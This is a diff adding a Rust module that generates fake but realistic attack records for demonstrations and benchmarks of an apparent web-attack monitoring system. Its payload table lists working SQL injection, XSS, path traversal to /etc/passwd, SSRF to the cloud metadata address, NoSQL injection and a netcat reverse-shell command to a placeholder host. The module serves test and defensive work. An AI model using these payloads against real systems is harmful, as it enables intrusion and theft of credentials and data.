@@ -1,0 +1,199 @@
+//! Made-up attacks that look like real ones, for demonstrations and benchmarks: scanners that try many payloads from a few
+//! addresses, within minutes, on a handful of applications. The same number gives the same records.
+
+use jiff::{SignedDuration, Timestamp};
+use serde_json::{Value, json};
+use shared::{IngestBatch, Record, record::NodeInfo};
+use uuid::Uuid;
+
+/// Over how long the attacks are spread.
+const DAYS: u64 = 30;
+const HOSTS: [&str; 5] =
+    ["shop.example.com", "api.example.com", "www.example.com", "admin.example.net", "blog.example.org"];
+const PATHS: [&str; 8] = [
+    "/",
+    "/search",
+    "/login",
+    "/api/v1/orders",
+    "/api/v1/users/17",
+    "/cart/items",
+    "/wp-login.php",
+    "/graphql",
+];
+const AGENTS: [&str; 4] = ["Mozilla/5.0", "curl/8.0", "sqlmap/1.8", "python-requests/2.32"];
+
+/// Type, severity, where the payload sits, and payloads.
+type Kind = (&'static str, &'static str, &'static str, [&'static str; 3]);
+
+const KINDS: [Kind; 7] = [
+    ("sqli", "high", "id", ["1' or '1'='1", "1 union select null,version()", "1;select pg_sleep(5)"]),
+    (
+        "xss",
+        "high",
+        "q",
+        ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"],
+    ),
+    ("ptrav", "high", "file", ["../../../../etc/passwd", "..\\..\\boot.ini", "/proc/self/environ"]),
+    ("rce", "critical", "cmd", [";cat /etc/passwd", "$(id)", "|nc 192.0.2.1 4444 -e /bin/sh"]),
+    (
+        "ssrf",
+        "medium",
+        "url",
+        ["http://169.254.169.254/latest/meta-data/", "file:///etc/hosts", "gopher://127.0.0.1"],
+    ),
+    ("nosqli", "high", "user", ["{\"$ne\":null}", "{\"$gt\":\"\"}", "';return true;//"]),
+    ("scanner", "low", "probe", ["nikto", "nuclei", "acunetix"]),
+];
+
+/// The node that says it saw all this.
+pub fn node() -> NodeInfo {
+    NodeInfo { id: Uuid::nil(), version: env!("CARGO_PKG_VERSION").to_owned() }
+}
+
+/// Batches of records with one hit each, as nodes deliver them; the last attack ends about `now`.
+pub fn batches(hits: u64, batch: u64, now: Timestamp) -> impl Iterator<Item = Vec<Record>> {
+    let mut attacks = Attacks { dice: Dice(1), attack: Attack::default(), left: 0, made: 0, hits, now };
+    let batch = usize::try_from(batch).unwrap_or(usize::MAX);
+    std::iter::from_fn(move || {
+        let records: Vec<Record> = attacks.by_ref().take(batch).collect();
+        (!records.is_empty()).then_some(records)
+    })
+}
+
+/// A delivery of such records.
+pub fn delivery(records: &[Record]) -> Result<IngestBatch, serde_json::Error> {
+    let records = records.iter().map(serde_json::value::to_raw_value).collect::<Result<_, _>>()?;
+    Ok(IngestBatch { node: node(), records })
+}
+
+/// Numbers that look random, and are the same each time (`SplitMix64`).
+struct Dice(u64);
+
+impl Dice {
+    fn below(&mut self, limit: u64) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        (mixed ^ (mixed >> 31)) % limit
+    }
+
+    fn pick<T: Copy, const N: usize>(&mut self, from: [T; N]) -> T {
+        from[usize::try_from(self.below(N as u64)).unwrap_or_default() % N]
+    }
+}
+
+/// What the hits of one attack have in common.
+#[derive(Clone, Copy)]
+struct Attack {
+    kind: Kind,
+    host: &'static str,
+    path: &'static str,
+    agent: &'static str,
+    network: u64,
+    is_blocked: bool,
+    at: Timestamp,
+}
+
+impl Default for Attack {
+    fn default() -> Self {
+        let (kind, host, path, agent) = (KINDS[0], HOSTS[0], PATHS[0], AGENTS[0]);
+        Self { kind, host, path, agent, network: 0, is_blocked: false, at: Timestamp::UNIX_EPOCH }
+    }
+}
+
+struct Attacks {
+    dice: Dice,
+    attack: Attack,
+    /// Hits the attack still has.
+    left: u64,
+    made: u64,
+    hits: u64,
+    now: Timestamp,
+}
+
+impl Iterator for Attacks {
+    type Item = Record;
+
+    fn next(&mut self) -> Option<Record> {
+        if self.made == self.hits {
+            return None;
+        }
+        if self.left == 0 {
+            self.begin_attack();
+        }
+        self.left -= 1;
+        self.made += 1;
+        self.attack.at +=
+            SignedDuration::from_millis(i64::try_from(self.dice.below(9_000)).unwrap_or_default());
+        serde_json::from_value(self.record()).ok()
+    }
+}
+
+impl Attacks {
+    fn begin_attack(&mut self) {
+        let dice = &mut self.dice;
+        // Most are a few tries, some go on.
+        let most = dice.pick([2, 4, 8, 40, 200]);
+        self.left = 1 + dice.below(most);
+        // In the order of time, as far as a share of all hits tells how far it is.
+        let span = DAYS * 24 * 3_600_000;
+        let offset = i64::try_from(span - span / self.hits.max(1) * self.made).unwrap_or_default();
+        self.attack = Attack {
+            kind: dice.pick(KINDS),
+            host: dice.pick(HOSTS),
+            path: dice.pick(PATHS),
+            agent: dice.pick(AGENTS),
+            network: dice.below(3_000),
+            is_blocked: dice.below(4) > 0,
+            at: self.now - SignedDuration::from_millis(offset),
+        };
+    }
+
+    fn record(&mut self) -> Value {
+        let Attack {
+            kind: (code, severity, parameter, payloads),
+            host,
+            path,
+            agent,
+            network,
+            is_blocked,
+            at,
+        } = self.attack;
+        let payload = self.dice.pick(payloads);
+        let address = format!("198.{}.{}.{}", 18 + network % 2, network / 16 % 256, self.dice.below(4) + 1);
+        let (outcome, mode, enforced) =
+            if is_blocked { ("blocked", "block", "yes") } else { ("monitored", "monitoring", "no") };
+        let point = json!([["get", parameter]]);
+        let finding = json!({
+            "type": code, "point": point, "signature": format!("{code}-seed"), "severity": severity, "payload": payload,
+            "span": [0, payload.len()],
+        });
+        json!({"attack": {
+            "request": {
+                "request_id": format!("{:032x}", u128::from(self.made) + (u128::from(self.dice.below(u64::MAX)) << 64)),
+                "at": at, "client_ip": address, "method": "GET", "host": host, "path": path,
+                "query": format!("{parameter}={payload}"),
+                "headers": [["host", host], ["user-agent", agent], ["accept", "*/*"], ["x-forwarded-for", address]],
+            },
+            "decision": {
+                "outcome": outcome, "reason": "attack", "mode": mode, "mode_source": "config", "delivery": "inline",
+                "enforced": enforced,
+            },
+            "hits": [{"id": Uuid::from_u64_pair(self.dice.below(u64::MAX), self.made), "type": code, "point": point,
+                      "findings": [finding]}],
+        }})
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn as_many_records_are_made_as_asked_for_and_the_same_again() {
+        let now = Timestamp::UNIX_EPOCH + SignedDuration::from_hours(24 * 365);
+        let made: Vec<_> = batches(1_050, 500, now).collect();
+        assert_eq!(made.iter().map(Vec::len).collect::<Vec<_>>(), [500, 500, 50]);
+        assert_eq!(made, batches(1_050, 500, now).collect::<Vec<_>>());
+    }
+}
